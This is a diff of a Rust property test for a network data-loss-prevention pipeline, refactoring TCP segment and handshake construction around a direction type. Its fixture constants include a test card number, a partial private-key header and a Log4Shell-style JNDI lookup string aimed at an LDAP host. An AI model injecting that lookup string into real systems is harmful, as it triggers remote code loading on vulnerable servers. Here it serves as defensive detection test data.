@@ -4,16 +4,18 @@
 
 use std::sync::{Arc, OnceLock};
 
-use bench::tcp::{ACK, Ends, From, PSH, SYN};
-use dataplane::decode::LinkType;
+use dataplane::decode::{LinkType, TcpFlags};
 use dataplane::event::{Event, EventSink};
 use dataplane::pipeline::{Pipeline, RxMeta};
 use dataplane::policy::{Mode, Settings};
 use dataplane::verdict::Verdict;
 use dlp_patterns::{Direction, Field, RuleSet, ScanState, default_packs};
+use engine::sample::frame::Tcp;
+use engine::sample::{Connection, Ends};
 use proptest::collection::vec;
 use proptest::prelude::*;
 
+const DATA: u8 = TcpFlags::PSH | TcpFlags::ACK;
 const CARD: &str = "4111111111111111";
 const KEY: &str = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAu1SU1LfVLPHC";
 const LOOKUP: &str = "${jndi:ldap://203.0.113.7/a}";
@@ -35,7 +37,7 @@ fn rules() -> Arc<RuleSet> {
 /// One message: what is sent, and the fields that it consists of.
 #[derive(Clone, Debug)]
 struct Message {
-    from: From,
+    direction: Direction,
     bytes: Vec<u8>,
     fields: Vec<(Field, Vec<u8>)>,
 }
@@ -50,7 +52,7 @@ impl Message {
             (Field::HttpHeaders, headers.into_bytes()),
             (Field::HttpRequestBody, body.into()),
         ];
-        Message { from: From::Client, bytes, fields }
+        Message { direction: Direction::ToServer, bytes, fields }
     }
 
     /// With `chunk_bytes` as a chunked body, else with a Content-Length.
@@ -70,11 +72,7 @@ impl Message {
             }
         }
         let fields = vec![(Field::HttpHeaders, headers.into_bytes()), (Field::HttpResponseBody, body.into())];
-        Message { from: From::Server, bytes, fields }
-    }
-
-    fn direction(&self) -> Direction {
-        if self.from == From::Client { Direction::ToServer } else { Direction::ToClient }
+        Message { direction: Direction::ToClient, bytes, fields }
     }
 }
 
@@ -88,10 +86,10 @@ fn oracle(messages: &[Message]) -> Vec<Found> {
     for message in messages {
         for (field, bytes) in &message.fields {
             let (mut state, mut hits) = (ScanState::default(), Vec::new());
-            rules.begin(&mut state, *field, message.direction());
+            rules.begin(&mut state, *field, message.direction);
             rules.scan(&mut state, bytes, &mut hits).expect("few candidates are alive at once");
             rules.finish(&mut state, &mut hits);
-            let way = message.direction();
+            let way = message.direction;
             found.extend(hits.iter().map(|hit| (rules.rule(hit.rule).id(), *field, way, hit.start, hit.end)));
         }
     }
@@ -128,12 +126,12 @@ const WINDOW_PIECES: usize = 5;
 
 impl Delivery {
     /// The segments of the conversation: sender, offset in its stream, payload, frame.
-    fn segments(&self, messages: &[Message]) -> Vec<(From, usize, Vec<u8>, Vec<u8>)> {
+    fn segments(&self, messages: &[Message]) -> Vec<(Direction, usize, Vec<u8>, Vec<u8>)> {
         let mut sent = [0, 0];
         let mut segments = Vec::new();
         let mut lengths = self.piece_bytes.iter().cycle();
         for message in messages {
-            let (own, peer) = (message.from as usize, 1 - message.from as usize);
+            let (own, peer) = (message.direction as usize, 1 - message.direction as usize);
             let mut pieces = Vec::new();
             let mut rest = &message.bytes[..];
             while !rest.is_empty() {
@@ -152,8 +150,12 @@ impl Delivery {
                     let sequence =
                         |end: usize, offset: usize| self.sequences[end].wrapping_add(1 + offset as u32);
                     let (own, peer) = (sequence(own, *offset), sequence(peer, sent[peer]));
-                    let frame = self.ends.frame(message.from, own, peer, PSH | ACK, piece);
-                    segments.push((message.from, *offset, piece.to_vec(), frame));
+                    let frame = self.ends.frame(
+                        message.direction,
+                        Tcp { sequence: own, acknowledgment: peer, flags: DATA },
+                        piece,
+                    );
+                    segments.push((message.direction, *offset, piece.to_vec(), frame));
                 }
             }
         }
@@ -166,14 +168,8 @@ impl Delivery {
         segments
     }
 
-    fn handshake(&self) -> [Vec<u8>; 3] {
-        let [client, server] = self.sequences;
-        let (answered, opened) = (server.wrapping_add(1), client.wrapping_add(1));
-        [
-            self.ends.frame(From::Client, client, 0, SYN, b""),
-            self.ends.frame(From::Server, server, opened, SYN | ACK, b""),
-            self.ends.frame(From::Client, opened, answered, ACK, b""),
-        ]
+    fn handshake(&self) -> Vec<Vec<u8>> {
+        Connection::new(self.ends.clone(), self.sequences).handshake()
     }
 }
 
@@ -283,7 +279,7 @@ proptest! {
             true => vec![Message::request(0, "curl", &body)],
             false => vec![Message::request(0, "curl", "plain"), Message::response(&body, None)],
         };
-        let guilty = messages.last().expect("there is a message").from;
+        let guilty = messages.last().expect("there is a message").direction;
         let mut bench = Bench::new(Mode::Protect);
         for frame in delivery.handshake() {
             prop_assert_eq!(bench.judge(&frame), Verdict::Forward);
